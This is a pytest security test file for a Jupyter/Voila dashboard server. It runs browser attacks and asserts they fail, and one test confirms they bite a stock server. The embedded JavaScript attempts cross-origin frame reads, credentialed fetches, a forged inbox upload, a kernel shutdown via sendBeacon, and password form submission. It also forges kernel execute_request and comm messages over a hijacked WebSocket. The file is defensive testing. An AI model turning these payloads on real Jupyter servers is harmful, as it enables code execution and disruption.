"""A real browser in the attacker's hands: a page of another site, and a visitor's own console.

The other site knows all that can be known: the address, the kernel's number, even the password.
"""

import threading
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from urllib.parse import urlsplit

import pytest

from tests.attacks.conftest import link
from tests.attacks.target import PATIENCE, PROTOCOL
from tests.serving.knocking import PASSWORD

UNTOUCHED = "witness: as it was, as it was, []"

ELSEWHERE = """
async ([there, kernel, password]) => {
    const page = `${there}clients/jarvi/dashboard`;
    const gained = [];
    const said = (what) => gained.push(what);
    const tried = async (name, act) => {
        try {
            const got = await act();
            if (got) said(`${name}: ${String(got).slice(0, 200)}`);
        } catch { /* the browser has refused it */ }
    };
    const loaded = (one) => new Promise((done) => {
        one.onload = () => done(one);
        one.onerror = () => done(null);
        document.body.append(one);
    });
    const frame = (src) => loaded(Object.assign(document.createElement("iframe"), { src }));

    for (const address of [page, there, `${there}login`])
        await tried("read in a frame", async () =>
            (await frame(address)).contentWindow.document.body.innerText);
    await tried("a line", () => new Promise((done) => {
        const line = new WebSocket(
            `${there.replace("http", "ws")}api/kernels/${kernel}/channels?session_id=s`);
        line.onopen = () => done("opened");
        line.onclose = line.onerror = () => done("");
    }));
    for (const address of [page, `${there}api/kernels/${kernel}`, `${there}?list`])
        await tried(`fetched ${address}`, async () =>
            (await fetch(address, { credentials: "include" })).text());
    await tried("a script", () => new Promise((done) => {
        const script = Object.assign(document.createElement("script"), { src: page });
        script.onload = () => done("ran");
        script.onerror = () => done("");
        document.body.append(script);
    }));
    const blind = { method: "POST", mode: "no-cors", credentials: "include" };
    await tried("a file", async () => {
        await fetch(`${there}clients/jarvi/inbox`, { ...blind, body: "hostile" });
    });
    await tried("a goodbye", async () => {
        navigator.sendBeacon(`${there}voila/api/shutdown/${kernel}`);
        await fetch(`${there}voila/api/shutdown/${kernel}`, blind);
    });
    for (const fields of [{ password, next: "/" }, { password, next: "/", token: "x" }]) {
        const form = Object.assign(document.createElement("form"), {
            method: "post", action: `${there}login`, target: `of ${Object.keys(fields)}` });
        for (const [name, value] of Object.entries(fields))
            form.append(Object.assign(document.createElement("input"), { name, value }));
        const hidden = Object.assign(document.createElement("iframe"), { name: form.target });
        document.body.append(form, hidden);
        const answered = new Promise((done) => (hidden.onload = done));
        form.submit();
        await answered;
        await tried("the answer to a form", () => hidden.contentWindow.document.body.innerText);
    }
    return gained;
}
"""

OPENED = """
(page) => {
    window.opened = window.open(page);
    return Boolean(window.opened);
}
"""

READ = """
() => {
    const read = [];
    for (const look of [
        (one) => one.document.body.innerText,
        (one) => one.location.href,
        (one) => one.coachkit,
        (one) => one.name && one.document.cookie,
    ]) {
        try {
            const got = look(window.opened);
            if (got) read.push(String(got));
        } catch { /* refused */ }
    }
    return read;
}
"""

LISTENING = """
(() => {
    window.lines = [];
    const Line = window.WebSocket;
    window.WebSocket = class extends Line {
        constructor(...how) {
            super(...how);
            window.lines.push(this);
        }
    };
})();
"""

CONSOLE = """
(protocol) => {
    const press = (name) => {
        for (const button of document.querySelectorAll("button")) {
            if (button.textContent.trim() !== name) continue;
            button.disabled = false;
            button.removeAttribute("disabled");
            button.removeAttribute("aria-disabled");
            button.click();
        }
    };
    for (const field of document.querySelectorAll(".widget-text input")) {
        field.disabled = false;
        field.removeAttribute("disabled");
        field.readOnly = false;
        field.value = "changed";
        for (const kind of ["input", "change"])
            field.dispatchEvent(new Event(kind, { bubbles: true }));
    }
    press("Press");
    press("Off");

    const line = window.lines.find((one) => one.readyState === WebSocket.OPEN);
    const send = (channel, msg_type, content) => {
        const header = {
            msg_id: crypto.randomUUID(), msg_type, session: "console", username: "",
            version: "5.3", date: new Date().toISOString(),
        };
        if (line.protocol !== protocol) {
            line.send(JSON.stringify(
                { header, parent_header: {}, metadata: {}, content, channel, buffers: [] }));
            return;
        }
        const pieces = [channel, ...[header, {}, { version: "2.1.0" }, content].map(
            (one) => JSON.stringify(one))].map((one) => new TextEncoder().encode(one));
        const starts = [8 * (pieces.length + 2)];
        for (const piece of pieces) starts.push(starts.at(-1) + piece.length);
        const whole = new Uint8Array(starts.at(-1));
        const view = new DataView(whole.buffer);
        [starts.length, ...starts].forEach(
            (number, place) => view.setBigUint64(8 * place, BigInt(number), true));
        pieces.forEach((piece, place) => whole.set(piece, starts[place]));
        line.send(whole.buffer);
    };
    for (const channel of ["shell", "control"]) {
        send(channel, "execute_request", {
            code: "pressed.append('ran'); draw()", silent: false, store_history: false,
            user_expressions: {}, allow_stdin: false });
        send(channel, "comm_open", {
            comm_id: crypto.randomUUID(), target_name: "jupyter.widget",
            data: { state: { _model_name: "ButtonModel",
                _model_module: "@jupyter-widgets/controls", _model_module_version: "2.0.0",
                _view_module: "@jupyter-widgets/controls", _view_name: "ButtonView",
                _view_module_version: "2.0.0" }, buffer_paths: [] } });
    }
    return Boolean(line);
}
"""


@pytest.fixture
def elsewhere():
    """An empty page of another site, and of another origin of the same: what leads to it."""

    class Empty(BaseHTTPRequestHandler):
        def do_GET(self):
            self.send_response(200)
            self.send_header("Content-Type", "text/html")
            self.end_headers()
            self.wfile.write(b"<!doctype html><title>Elsewhere</title><body></body>")

        def log_message(self, *_):
            pass

    with ThreadingHTTPServer(("127.0.0.1", 0), Empty) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        yield server.server_address[1]
        server.shutdown()


def come_in(ours, visited):
    """The attacked visitor, on their own page."""
    token, _ = link(ours.workspace, "jarvi")
    visited.open(f"{ours.url}open/{token}")
    return visited.page


@pytest.mark.parametrize("host", ["localhost", "127.0.0.1"], ids=["other site", "other origin"])
def test_a_page_of_another_site_gains_nothing(ours, visit, elsewhere, host):
    visited = visit()
    page = come_in(ours, visited)
    kernel = page.evaluate("coachkit.config().kernelId")
    cookies = keys_of(visited)
    inbox = ours.workspace / "clients" / "jarvi" / "inbox"
    before = set(inbox.iterdir())
    foreign = visited.context.new_page()
    foreign.set_default_timeout(PATIENCE * 1000)
    foreign.goto(f"http://{host}:{elsewhere}/")
    assert foreign.evaluate(ELSEWHERE, [ours.url, kernel, PASSWORD]) == []
    for frame in foreign.frames[1:]:
        assert "secret-of" not in frame.content()
    with visited.context.expect_page() as opening:
        assert foreign.evaluate(OPENED, f"{ours.url}clients/jarvi/dashboard")
    opening.value.wait_for_selector("body.ck-shown")
    assert foreign.evaluate(READ) == []
    assert keys_of(visited) == cookies
    assert set(inbox.iterdir()) == before
    # nobody has ended the page that was open all the while
    assert page.evaluate("coachkit.line.up")
    assert ours.ask(f"/api/kernels/{kernel}", cookie=cookies).status == 200


def keys_of(visited):
    """The cookies that open a door, as they are sent; a form's own opens none."""
    cookies = {one["name"]: one["value"] for one in visited.context.cookies()}
    return "; ".join(f"{name}={cookies[name]}" for name in cookies if name != "coachkit-form")


def test_a_visitors_own_console_moves_nothing_in_the_kernel(ours, visit):
    visited = visit()
    page = visited.page
    page.add_init_script(LISTENING)
    come_in(ours, visited)
    page.get_by_text(UNTOUCHED).wait_for()
    assert page.evaluate(CONSOLE, PROTOCOL)
    # what is allowed goes the same way, after all that
    page.get_by_label("Look").select_option("two")
    visited.settle()
    page.get_by_text(UNTOUCHED).wait_for()
    assert page.locator(".ck-look select").input_value() == "two"


def test_it_bites_a_stock_server(stock, visit):
    page = visit().page
    page.add_init_script(LISTENING)
    page.goto(f"{stock.url.rstrip('/')}{stock.page('jarvi')}")
    page.get_by_text(UNTOUCHED).wait_for()
    assert page.evaluate(CONSOLE, PROTOCOL)
    witness = page.get_by_text("witness: changed, changed, ")
    witness.wait_for()
    page.get_by_text("'Off'").wait_for()
    assert urlsplit(page.url).path.endswith("dashboard.ipynb")
